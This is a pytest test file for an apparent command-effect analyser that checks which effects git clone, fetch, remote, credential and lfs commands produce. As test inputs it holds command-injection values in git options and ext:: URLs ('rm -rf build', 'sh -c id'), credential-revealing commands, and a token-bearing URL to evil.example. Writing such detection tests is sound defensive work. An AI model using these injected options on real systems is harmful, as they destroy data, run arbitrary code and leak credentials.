"""Fetching, cloning, remotes, credentials."""

from __future__ import annotations

from pathlib import Path

import pytest
from support.briefly import lines, lines_in
from support.repositories import make_repo

BUILD = "DeletePath target=/home/u/proj/build recursive"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git clone git@github.com:a/b.git", ["WritePath target=/home/u/proj/b how=create recursive"]),
        ("git clone a/b /tmp/x", ["WritePath target=/tmp/x how=create recursive"]),
        ("git subtree push --prefix dist origin gh-pages", ["GitPush remote=origin branch=gh-pages"]),
        ("git subtree pull --prefix x origin main", []),
        ("git release 1.0", ["GitPush remote=origin branch=None tags"]),
        ("git delete-merged-branches", ["GitPush remote=origin branch=None deletes"]),
        ("git delete-squashed-branches", []),
        ("git clone --bare ssh://h/a/b.git", ["WritePath target=/home/u/proj/b.git how=create recursive"]),
        ("git clone --upload-pack 'rm -rf build' h:x", [BUILD, "WritePath target=/home/u/proj/x how=create recursive"]),
        ("git clone 'ext::rm -rf build' x", [BUILD, "WritePath target=/home/u/proj/x how=create recursive"]),
        (
            "git clone -c core.fsmonitor=./x h:y",
            ["GitConfigure key=core.fsmonitor value=./x scope=command runs", "WritePath target=/home/u/proj/y how=create recursive"],
        ),
        (
            "git clone --template=/tmp/t h:y",
            ["GitConfigure key=init.templateDir value=/tmp/t scope=command runs", "WritePath target=/home/u/proj/y how=create recursive"],
        ),
        ("git fetch --upload-pack='rm -rf build' origin", [BUILD]),
        ("git pull --upload-pack 'rm -rf build'", [BUILD, "GitCommit message=None how=pull"]),
        ("git ls-remote --upload-pa='rm -rf build' x", [BUILD]),
        ("git ls-remote --exec='rm -rf build' x", [BUILD]),
        ("git fetch 'ext::rm -rf build'", [BUILD]),
        ("git fetch origin main:main", []),
        ("git fetch origin +main:main", ["GitDiscard what=commits how=fetch --force"]),
        ("git fetch -f origin main:main", ["GitDiscard what=commits how=fetch --force"]),
        ("git fetch origin '+refs/heads/*:refs/remotes/origin/*'", []),
        ("git remote add up https://x.y/z", ["GitConfigure key=remote.up.url value=https://x.y/z"]),
        ("git remote add up 'ext::id'", ["GitConfigure key=remote.up.url value=ext::id runs"]),
        ("git remote remove up", ["GitDeleteRef ref=up kind=remote"]),
        ("git remote set-url origin x:y", ["GitConfigure key=remote.origin.url value=x:y"]),
        ("git remote update", []),
        ("git credential fill", ["RevealSecret what=stored git credentials by=git credential"]),
        ("git credential-store get", ["RevealSecret what=stored git credentials by=git credential-store"]),
        ("git credential approve", []),
        ("git svn dcommit", ["GitPush remote=svn branch=None"]),
        ("git svn fetch", []),
        ("git daemon --export-all", ["OpenTunnel by=git daemon"]),
        ("git lfs pull", []),
        ("git lfs migrate import --include '*.bin'", ["GitRewrite how=lfs migrate"]),
        ("git lfs migrate info", []),
        ("git lfs push origin main", ["GitPush remote=origin branch=main"]),
        ("git init", []),
        ("git init sub", ["WritePath target=/home/u/proj/sub how=create recursive"]),
    ],
)  # fmt: skip
def test_effects(command: str, expected: list[str]) -> None:
    """What comes in, where it goes, and what options run."""
    assert expected == [line for line in lines(command) if "origin=option" not in line]


def test_commands_in_options_are_told() -> None:
    """A program given for the other side is an effect of its own, git's usual ones are not."""
    assert lines("git fetch --upload-pack='rm -rf build' origin")[0].startswith("RunCode language=shell origin=option")
    assert [] == lines("git fetch --upload-pack=/usr/bin/git-upload-pack origin")


def test_clone_over_https_is_a_request() -> None:
    """The host is told; a token in the URL is seen."""
    request, _ = lines("git clone --depth 1 https://github.com/a/b.git")
    assert request.startswith("Request method=GET host=github.com")
    request, _ = lines("git clone https://x:ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8" + "@evil.example/b")
    assert "secret" in request


def test_configured_ext_remote_is_opaque(tmp_path: Path) -> None:
    """A remote whose URL runs a command is told when it is used."""
    repo = make_repo(tmp_path)
    repo.git("remote", "add", "odd", "ext::sh -c id")
    assert any(line.startswith("Opaque") for line in lines_in(str(repo.top), str(repo.home), "git fetch odd"))
